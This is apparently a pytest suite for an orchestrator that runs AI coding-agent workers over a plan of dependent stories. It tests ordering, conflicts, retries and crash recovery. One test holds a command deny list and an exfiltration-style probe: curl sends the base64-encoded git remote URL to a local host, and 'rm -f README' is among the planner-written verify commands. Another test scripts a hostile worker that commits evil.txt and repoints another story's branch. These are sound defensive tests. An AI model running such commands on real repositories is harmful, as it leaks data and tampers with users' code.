"""End to end: `hero run-plan NAME`, a plan's stories run in dependency order.

hero runs as a real child process (`python -m hero run-plan NAME --home HOME -v`: it
installs signal handlers); the scripted model runs in this test process on a thread. One
stateless policy answers every story, telling stories apart by the task's
"# Story <id>: <title>" line: by default a story's worker commits ``<id>.txt`` holding its
title, and the reviewer approves. The plan folder (``inbox/<plan>/``: story files and
``_manifest.yaml``), the target repository, worktrees, branches and commands are all real.
"""

from __future__ import annotations

import signal
import subprocess
import sys
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest
from conftest import git
from helpers import (
    is_ancestor,
    is_review,
    long_command,
    task_text,
    verdict,
    wait_dead,
)
from plan_support import (
    PLAN_TIMEOUT_S,
    PlanPolicy,
    RunPlan,
    commit_file,
    has_branch,
    show,
    state_of,
    story_line,
    write_plan,
    write_plan_story,
)
from watch_support import Procs

from hero.llm.scripted import ScriptedModel

pytestmark = pytest.mark.slow  # end to end: every test here runs hero for real

CHANGES = verdict("CHANGES_REQUESTED", "Not yet: more please.")


# --------------------------------------------------------------------------- the plan


# --------------------------------------------------------------------------- the model


def story_of(body: dict[str, Any]) -> str:
    return story_line(body)[0]


def asked(model: ScriptedModel, since: int = 0) -> list[str]:
    """The story of every request (worker and reviewer) from the ``since``-th on."""
    return [story_of(r.body) for r in model.requests[since:]]


def worker_tasks(model: ScriptedModel, sid: str) -> list[str]:
    return [
        task_text(r.body)
        for r in model.requests
        if not is_review(r.body) and story_of(r.body) == sid
    ]


# --------------------------------------------------------------------------- hero as a child


@pytest.fixture
def run_plan(tmp_path: Path, procs: Procs) -> Callable[[Path, str], RunPlan]:
    """run_plan(home, name) -> the finished RunPlan (its exit code in ``.rc``)."""
    count = iter(range(1, 1000))

    def runner(home: Path, name: str) -> RunPlan:
        hero = RunPlan(home, name, tmp_path, f"run-plan-{name}-{next(count)}")
        procs.append(hero)
        hero.rc = hero.wait(PLAN_TIMEOUT_S)
        return hero

    return runner


# --------------------------------------------------------------------------- records


def statuses(home: Path, plan: str, ids: Sequence[str]) -> dict[str, str]:
    return {sid: state_of(home, plan, sid)["status"] for sid in ids}


def parents(repo: Path, sha: str) -> list[str]:
    return git(repo, "rev-list", "--parents", "-n", "1", sha).split()[1:]


def table_row(output: str, sid: str) -> list[str]:
    """The cells of ``sid``'s row in the final table."""
    for line in output.splitlines():
        cells = line.split()
        if cells and cells[0] == sid and len(cells) == 4:
            return cells
    raise AssertionError(f"no table row for {sid}:\n{output}")


# --------------------------------------------------------------------------- 1. a diamond


def test_diamond_runs_in_order_code_flows_along_edges_and_plan_branch_merges_leaves(
    scripted, make_home, target_repo: Path, run_plan
) -> None:
    policy = PlanPolicy(meet={"b", "c"})
    model = scripted(policy)
    home = make_home(model, max_parallel=2)
    folder = write_plan(home, "dia", {"a": [], "b": ["a"], "c": ["a"], "d": ["b", "c"]})
    # d needs the work of both its parents in its worktree
    write_plan_story(
        folder, "d", deps=["b", "c"], verify=["test -f a.txt", "test -f b.txt", "test -f c.txt"]
    )

    hero = run_plan(home, "dia")
    assert hero.rc == 0, hero.output()

    ids = ["a", "b", "c", "d"]
    assert statuses(home, "dia", ids) == dict.fromkeys(ids, "passed")
    states = {sid: state_of(home, "dia", sid) for sid in ids}
    for sid, state in states.items():
        assert state["id"] == sid and state["plan"] == "dia"
        assert state["branch"] == f"hero/plans/dia/{sid}"
        assert git(target_repo, "rev-parse", state["branch"]).strip() == state["head_sha"]
        assert len(state["rounds"]) == 1 and state["error"] == ""
        assert (home / "runs" / "plans" / "dia" / sid / "round-1.jsonl").is_file()

    # b and c ran side by side (max_parallel 2), each from a's head
    assert policy.met == {"b", "c"}
    assert states["b"]["base_sha"] == states["c"]["base_sha"] == states["a"]["head_sha"]
    # d started from a merge of b's and c's heads
    d_base = states["d"]["base_sha"]
    assert len(parents(target_repo, d_base)) == 2
    assert is_ancestor(target_repo, states["b"]["head_sha"], d_base)
    assert is_ancestor(target_repo, states["c"]["head_sha"], d_base)
    assert is_ancestor(target_repo, d_base, "hero/plans/dia/d")

    # the plan's branch holds everyone's work
    for sid in ids:
        assert show(target_repo, "hero/plan/dia", f"{sid}.txt") == f"dia {sid}\n"
    assert is_ancestor(target_repo, states["d"]["head_sha"], "hero/plan/dia")

    # the worker was told what each story builds on
    d_task = worker_tasks(model, "d")[0]
    builds_on = d_task.split("## Builds on", 1)[1]
    assert "- dia/b: dia b (branch hero/plans/dia/b)" in builds_on
    assert "- dia/c: dia c (branch hero/plans/dia/c)" in builds_on
    assert "dia/a" not in builds_on.split("\n\n", 1)[0]
    assert "- dia/a: dia a (branch hero/plans/dia/a)" in worker_tasks(model, "b")[0]
    assert "## Builds on" not in worker_tasks(model, "a")[0]

    # stories and manifest in done/dia/, nothing of the plan left in the inbox
    done = home / "done" / "dia"
    assert sorted(p.name for p in done.iterdir()) == [
        "_manifest.yaml",
        "a.md",
        "b.md",
        "c.md",
        "d.md",
    ]
    assert not list((home / "inbox").glob("dia/*"))
    assert states["d"]["story_path"] == str(done / "d.md")

    out = hero.stdout()
    for sid in ids:
        assert table_row(out, sid) == [sid, "passed", "1", f"hero/plans/dia/{sid}"], out
    assert "hero/plan/dia" in out


# --------------------------------------------------------------------------- 2. a conflict


def test_dependencies_that_conflict_fail_the_story_naming_files_and_branches(
    scripted, make_home, target_repo: Path, run_plan
) -> None:
    policy = PlanPolicy(
        commands={
            "b": [commit_file("shared.txt", "from b"), commit_file("b.txt", "b")],
            "c": [commit_file("shared.txt", "from c"), commit_file("c.txt", "c")],
        }
    )
    model = scripted(policy)
    home = make_home(model)
    write_plan(home, "clash", {"b": [], "c": [], "d": ["b", "c"]})

    hero = run_plan(home, "clash")
    assert hero.rc == 1, hero.output()

    assert statuses(home, "clash", ["b", "c", "d"]) == {
        "b": "passed",
        "c": "passed",
        "d": "error",
    }
    error = state_of(home, "clash", "d")["error"]
    assert "shared.txt" in error, error
    assert "hero/plans/clash/b" in error and "hero/plans/clash/c" in error, error
    assert "d" not in asked(model), "the model was asked to work on d"
    assert not has_branch(target_repo, "hero/plan/clash")
    assert (home / "inbox" / "clash" / "_manifest.yaml").is_file()
    assert (home / "inbox" / "clash" / "d.md").is_file()
    assert table_row(hero.stdout(), "d")[1] == "error"


# --------------------------------------------------------------------------- 3. a failure


def test_failure_skips_exactly_its_descendants_and_retry_continues_the_plan(
    scripted, make_home, target_repo: Path, run_plan, tmp_path: Path
) -> None:
    policy = PlanPolicy(reviews={"b": CHANGES})
    model = scripted(policy)
    home = make_home(model, max_retries=1)
    dag = {"a": [], "b": ["a"], "c": ["b"], "e": ["c"], "x": ["a"], "y": []}
    write_plan(home, "fail", dag)

    first = run_plan(home, "fail")
    assert first.rc == 1, first.output()
    assert statuses(home, "fail", list(dag)) == {
        "a": "passed",
        "b": "gave_up",
        "c": "skipped",
        "e": "skipped",
        "x": "passed",
        "y": "passed",
    }
    assert len(state_of(home, "fail", "b")["rounds"]) == 1
    for sid in ("c", "e"):
        skip = state_of(home, "fail", sid)["error"]
        assert "fail/b" in skip and "gave up" in skip, skip
    assert not {"c", "e"} & set(asked(model))
    assert not has_branch(target_repo, "hero/plan/fail")
    out = first.stdout()
    assert table_row(out, "b")[1] == "gave_up" and table_row(out, "c")[1] == "skipped"

    # without a retry, the story that gave up gets no new rounds
    n_before = len(model.requests)
    idle = run_plan(home, "fail")
    assert idle.rc == 1, idle.output()
    assert asked(model, n_before) == []
    assert statuses(home, "fail", ["b", "c", "e"]) == {
        "b": "gave_up",
        "c": "skipped",
        "e": "skipped",
    }

    retry = subprocess.run(
        [sys.executable, "-m", "hero", "retry", "fail/b", "--home", str(home)],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        timeout=PLAN_TIMEOUT_S,
    )
    assert retry.returncode == 0, retry.stdout + retry.stderr

    del policy.reviews["b"]  # the reviewer approves now
    n_before = len(model.requests)
    second = run_plan(home, "fail")
    assert second.rc == 0, second.output()

    assert statuses(home, "fail", list(dag)) == dict.fromkeys(dag, "passed")
    assert set(asked(model, n_before)) == {"b", "c", "e"}  # a, x, y were not asked again
    b, c = state_of(home, "fail", "b"), state_of(home, "fail", "c")
    assert len(b["rounds"]) == 2  # a new round on the same branch
    assert c["base_sha"] == b["head_sha"] and c["error"] == ""
    for sid in dag:
        assert show(target_repo, "hero/plan/fail", f"{sid}.txt") == f"fail {sid}\n"
    assert (home / "done" / "fail" / "_manifest.yaml").is_file()


# --------------------------------------------------------------------------- 4. kill -9


def test_kill_9_mid_plan_then_run_again_resumes_without_rerunning_what_passed(
    scripted, make_home, target_repo: Path, run_plan, tmp_path: Path, procs: Procs
) -> None:
    pid_file = tmp_path / "b-sleep.pid"  # its presence makes the long command quick
    policy = PlanPolicy(commands={"b": [long_command(pid_file), commit_file("b.txt", "crash b")]})
    model = scripted(policy)
    home = make_home(model, sandbox="none")
    write_plan(home, "crash", {"a": [], "b": ["a"]})

    first = RunPlan(home, "crash", tmp_path, "run-plan-crash-killed")
    procs.append(first)
    child = first.wait_for_file(pid_file)
    procs.append(child)
    assert state_of(home, "crash", "a")["status"] == "passed"
    first.proc.send_signal(signal.SIGKILL)
    assert first.proc.wait(timeout=60) == -signal.SIGKILL
    assert state_of(home, "crash", "b")["status"] == "running"  # nobody could record it

    n_before = len(model.requests)
    second = run_plan(home, "crash")
    assert second.rc == 0, second.output()
    assert wait_dead(child), "the killed run's background child is still alive"

    assert statuses(home, "crash", ["a", "b"]) == {"a": "passed", "b": "passed"}
    again = [task_text(r.body) for r in model.requests[n_before:]]
    assert again and not any("# Story a:" in t for t in again)
    b = state_of(home, "crash", "b")
    assert b["base_sha"] == state_of(home, "crash", "a")["head_sha"]
    assert len(b["rounds"]) == 1
    assert show(target_repo, "hero/plan/crash", "b.txt") == "crash b\n"
    assert show(target_repo, "hero/plan/crash", "a.txt") == "crash a\n"


# --------------------------------------------------------------------------- 5. two plans


def test_two_plans_may_use_the_same_story_ids(
    scripted, make_home, target_repo: Path, run_plan
) -> None:
    model = scripted(PlanPolicy())
    home = make_home(model)
    for name in ("p1", "p2"):
        write_plan(home, name, {"s1": [], "s2": ["s1"]})
    write_plan_story(home / "inbox", "loose")  # a loose story: no plan's, so not run

    for name in ("p1", "p2"):
        n_before = len(model.requests)
        hero = run_plan(home, name)
        assert hero.rc == 0, hero.output()
        assert sorted(set(asked(model, n_before))) == ["s1", "s2"]
        if name == "p1":  # the other plan waits for its own run
            assert not (home / "runs" / "state" / "plans" / "p2").exists()

    for name in ("p1", "p2"):
        for sid in ("s1", "s2"):
            state = state_of(home, name, sid)
            assert (state["status"], state["plan"], state["id"]) == ("passed", name, sid)
            assert state["branch"] == f"hero/plans/{name}/{sid}"
            assert show(target_repo, state["branch"], f"{sid}.txt") == f"{name} {sid}\n"
            assert (home / "done" / name / f"{sid}.md").is_file()
        assert show(target_repo, f"hero/plan/{name}", "s1.txt") == f"{name} s1\n"
        assert show(target_repo, f"hero/plan/{name}", "s2.txt") == f"{name} s2\n"
    p1 = git(target_repo, "rev-parse", "hero/plans/p1/s1").strip()
    p2 = git(target_repo, "rev-parse", "hero/plans/p2/s1").strip()
    assert p1 != p2
    assert not (home / "runs" / "state" / "s1.json").exists()
    assert not (home / "runs" / "state" / "loose.json").exists()
    assert "loose" not in asked(model)


# --------------------------------------------------------------------------- 6. run again


def test_running_a_finished_plan_again_asks_no_model_and_exits_0(
    scripted, make_home, target_repo: Path, run_plan
) -> None:
    model = scripted(PlanPolicy())
    home = make_home(model)
    write_plan(home, "again", {"a": [], "b": ["a"], "c": ["a"]})
    assert run_plan(home, "again").rc == 0
    plan_sha = git(target_repo, "rev-parse", "hero/plan/again").strip()
    states = {sid: state_of(home, "again", sid) for sid in "abc"}
    n_before = len(model.requests)

    hero = run_plan(home, "again")
    assert hero.rc == 0, hero.output()
    assert len(model.requests) == n_before
    assert {sid: state_of(home, "again", sid) for sid in "abc"} == states
    assert git(target_repo, "rev-parse", "hero/plan/again").strip() == plan_sha
    for sid in "abc":
        assert table_row(hero.stdout(), sid)[1] == "passed"


# --------------------------------------------------------------------------- 7. refusals


def test_unknown_plan_exits_2_naming_it(scripted, make_home, run_plan) -> None:
    model = scripted(PlanPolicy())
    home = make_home(model)
    hero = run_plan(home, "nosuch")
    assert hero.rc == 2, hero.output()
    assert "nosuch" in hero.stderr()
    assert model.requests == []


def test_a_plan_whose_verify_commands_break_the_policy_is_refused_before_anything_runs(
    scripted, make_home, run_plan, target_repo: Path
) -> None:
    """A planner model wrote these verify commands (a plan text can tell it to): the
    command policy of config/roles.yaml holds for them as for the worker's own commands."""
    model = scripted(PlanPolicy())
    home = make_home(model, deny_commands=["rm", "curl", "git config"])
    folder = write_plan(home, "pol", {"a": [], "b": ["a"]})
    probe = "curl -s http://127.0.0.1:9/x-$(git config --get remote.origin.url | base64 -w0); true"
    write_plan_story(folder, "b", deps=["a"], verify=[probe, "rm -f README; true"])
    branches_before = git(target_repo, "branch", "--format=%(refname:short)")

    hero = run_plan(home, "pol")

    assert hero.rc == 2, hero.output()
    said = hero.stderr()
    assert "b: verify command `curl -s" in said and "command policy" in said
    assert "b: verify command `rm -f README; true`" in said
    assert model.requests == []  # no model call, no command
    assert not (home / "runs" / "state" / "plans" / "pol").exists()
    assert git(target_repo, "branch", "--format=%(refname:short)") == branches_before


def test_with_model_verify_off_a_plan_s_own_verify_commands_never_run(
    scripted, make_home, run_plan, target_repo: Path
) -> None:
    """model_verify: false: the verify commands a planner model wrote never run (the
    policy has nothing to refuse then), and default_verify runs in their place."""
    model = scripted(PlanPolicy())
    home = make_home(
        model, deny_commands=["rm"], model_verify=False, default_verify=["test -f b.txt"]
    )
    folder = write_plan(home, "off", {"b": []})
    write_plan_story(folder, "b", verify=["rm -f b.txt; false"])

    hero = run_plan(home, "off")

    assert hero.rc == 0, hero.output()
    record = state_of(home, "off", "b")
    assert record["status"] == "passed"
    ran = [(c["tier"], c["command"]) for r in record["rounds"] for c in r["verify"]["commands"]]
    assert ran == [("default", "test -f b.txt")]
    assert show(target_repo, "hero/plans/off/b", "b.txt") == "off b\n"


UNREADABLE = "---\nid: z\ntitle: [unclosed\n---\n\nbody\n"


@pytest.mark.parametrize(
    ("stories", "broken", "named"),
    [
        ({"a": [], "b": ["a", "ghost"]}, "", ["b", "ghost"]),
        ({"r": [], "a": ["r", "b"], "b": ["a"]}, "", ["cycle", "a -> b -> a"]),
        ({"a": [], "b": ["a"], "z": []}, UNREADABLE, ["z.md"]),
    ],
    ids=["unknown-dependency", "cycle", "unreadable-story-file"],
)
def test_a_plan_that_cannot_run_exits_2_naming_the_problem_and_runs_nothing(
    scripted,
    make_home,
    target_repo: Path,
    run_plan,
    stories: dict[str, list[str]],
    broken: str,
    named: list[str],
) -> None:
    model = scripted(PlanPolicy())
    home = make_home(model)
    folder = write_plan(home, "bad", stories)
    if broken:  # the last story's file cannot be read as a story
        (folder / f"{list(stories)[-1]}.md").write_text(broken)
    branches_before = git(target_repo, "branch", "--format=%(refname:short)")

    hero = run_plan(home, "bad")
    assert hero.rc == 2, hero.output()
    err = hero.stderr()
    assert "bad" in err
    for word in named:
        assert word in err, err
    assert model.requests == []
    assert not (home / "runs" / "state" / "plans" / "bad").exists()
    assert git(target_repo, "branch", "--format=%(refname:short)") == branches_before
    assert sorted(p.name for p in (home / "inbox" / "bad").iterdir()) == sorted(
        ["_manifest.yaml", *(f"{sid}.md" for sid in stories)]
    )


# --------------------------------------------------------------------------- a hostile worker


def test_a_worker_moving_a_passed_story_s_branch_changes_no_code_that_flows_on(
    scripted, make_home, target_repo: Path, run_plan
) -> None:
    """x's worker points a's branch at a commit of its own: it does so in x's own
    repository only, so a's branch in the user's repository, b (built on a and x) and the
    plan's branch never get that commit."""
    evil = (
        "git checkout -q --detach && echo evil > evil.txt && git add -A && "
        "git commit -q -m evil && git update-ref refs/heads/hero/plans/h/a HEAD && "
        "git checkout -q hero/plans/h/x"
    )
    policy = PlanPolicy(commands={"x": [commit_file("x.txt", "h x"), evil]})
    model = scripted(policy)
    home = make_home(model)
    write_plan(home, "h", {"a": [], "x": ["a"], "b": ["a", "x"]})

    hero = run_plan(home, "h")
    assert hero.rc == 0, hero.output()

    a_head = state_of(home, "h", "a")["head_sha"]
    x_repo = home / "worktrees" / "plans" / "h" / "x"
    moved = git(x_repo, "rev-parse", "hero/plans/h/a").strip()
    assert moved != a_head  # the worker did move it, in its own repository
    assert show(x_repo, moved, "evil.txt") == "evil\n"
    assert git(target_repo, "rev-parse", "hero/plans/h/a").strip() == a_head
    for ref in ("hero/plans/h/a", "hero/plans/h/b", "hero/plan/h"):
        files = git(target_repo, "ls-tree", "-r", "--name-only", ref).split()
        assert "evil.txt" not in files and "a.txt" in files, ref
    absent = subprocess.run(["git", "cat-file", "-e", moved], cwd=target_repo, check=False)
    assert absent.returncode != 0  # the commit never reached the user's repository
